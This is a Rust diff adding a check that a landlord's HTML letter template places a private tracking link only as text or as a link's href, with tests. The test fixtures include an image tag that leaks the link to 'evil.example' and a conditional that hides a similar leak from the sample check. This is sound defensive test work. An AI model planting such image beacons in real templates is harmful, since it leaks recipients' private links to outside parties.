@@ -399,16 +399,20 @@ impl Templates {
         let ctx = Value::from(Serde(ctx));
         let part = |part: Part| {
             let rendered = match overrides.and_then(|o| o.part(part)) {
-                Some(source) => self.render_override(kind, part, source, &ctx),
+                Some(source) => self
+                    .render_override(kind, part, source, &ctx)
+                    .map_err(|e| e.to_string())
+                    .and_then(|out| link_placed(part, out)),
                 None => self
                     .env
                     .get_template(&template_name(kind, part))
-                    .and_then(|t| t.render(&ctx)),
+                    .and_then(|t| t.render(&ctx))
+                    .map_err(|e| e.to_string()),
             };
-            rendered.map_err(|e| TemplateError::Render {
+            rendered.map_err(|message| TemplateError::Render {
                 kind: kind.to_owned(),
                 field: part.field(),
-                message: e.to_string(),
+                message,
             })
         };
         let subject = one_line(&part(Part::Subject)?);
@@ -471,7 +475,8 @@ impl Templates {
                 Some(ctx) => self.render_override(kind, part, source, ctx),
                 None => self.compile_override(kind, part, source),
             }
-            .map_err(|e| (field, e.to_string()))?;
+            .map_err(|e| (field, e.to_string()))
+            .and_then(|out| link_placed(part, out).map_err(|m| (field, m)))?;
             if part == Part::Subject && sample.is_some() && one_line(&rendered).is_empty() {
                 return Err((field, "renders to an empty subject line".to_owned()));
             }
@@ -503,6 +508,16 @@ pub fn sample_data(kind: &str) -> Option<serde_json::Value> {
     let own: serde_json::Map<String, serde_json::Value> = serde_json::from_str(own).ok()?;
     base.extend(own);
     Some(serde_json::Value::Object(base))
+}
+
+/// A landlord's own HTML as rendered, if it puts a private link only where it may stand
+/// (see [`crate::link_check`]).
+fn link_placed(part: Part, out: String) -> Result<String, String> {
+    if part == Part::Html {
+        crate::link_check::check(&out, redress_store::outbox::LINK_PLACEHOLDER)
+            .map_err(str::to_owned)?;
+    }
+    Ok(out)
 }
 
 fn sample(kind: &str) -> Option<Value> {
@@ -694,6 +709,45 @@ mod tests {
             ..Override::default()
         };
         assert_eq!(t.check_override("extension", &blank).unwrap_err().0, "text");
+    }
+
+    #[test]
+    fn a_private_link_may_stand_only_as_text_or_as_a_links_href() {
+        let t = templates();
+        let fine = Override {
+            html: Some(
+                "<p><a href=\"{{ tracking_url }}\">Your page</a> {{ tracking_url }}</p>".into(),
+            ),
+            text: Some("Anywhere in plain text: {{ tracking_url }}".into()),
+            ..Override::default()
+        };
+        assert_eq!(t.check_override("tracking_link", &fine), Ok(()));
+        let leaky = Override {
+            html: Some("<p>Hello</p><img src=\"https://evil.example/?{{ tracking_url }}\">".into()),
+            ..Override::default()
+        };
+        let (field, message) = t.check_override("tracking_link", &leaky).unwrap_err();
+        assert_eq!(field, "html");
+        assert!(message.contains("private link"), "{message}");
+        // Hidden from the sample, it is still refused when a real letter is rendered (and the
+        // letter falls back to the default).
+        let sly = Override {
+            html: Some(
+                "{% if reference != \"RIV-000042\" %}<img src=\"{{ tracking_url }}\">{% endif %}ok"
+                    .into(),
+            ),
+            ..Override::default()
+        };
+        assert_eq!(t.check_override("tracking_link", &sly), Ok(()));
+        let mut ctx = sample_json("tracking_link");
+        ctx["reference"] = json!("RIV-000043");
+        match t.render("tracking_link", &ctx, Some(&sly)) {
+            Err(TemplateError::Render { field, message, .. }) => {
+                assert_eq!(field, "html");
+                assert!(message.contains("private link"), "{message}");
+            }
+            other => panic!("rendered: {other:?}"),
+        }
     }
 
     #[test]
